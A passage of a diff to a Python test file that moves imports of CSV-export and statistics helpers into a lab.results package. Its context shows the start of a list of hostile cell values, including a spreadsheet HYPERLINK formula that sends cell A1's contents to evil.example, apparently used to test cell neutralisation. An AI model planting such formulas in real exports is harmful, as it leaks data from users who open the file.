@@ -10,8 +10,8 @@ from typing import Any
 import pandas as pd
 import pytest
 
-from lab.export import items_csv, neutralise_cell, restore_cell, summary_csv, write_csv
-from lab.stats import ITEM_COLUMNS, SUMMARY_COLUMNS, item_frame, summary
+from lab.results.export import items_csv, neutralise_cell, restore_cell, summary_csv, write_csv
+from lab.results.stats import ITEM_COLUMNS, SUMMARY_COLUMNS, item_frame, summary
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
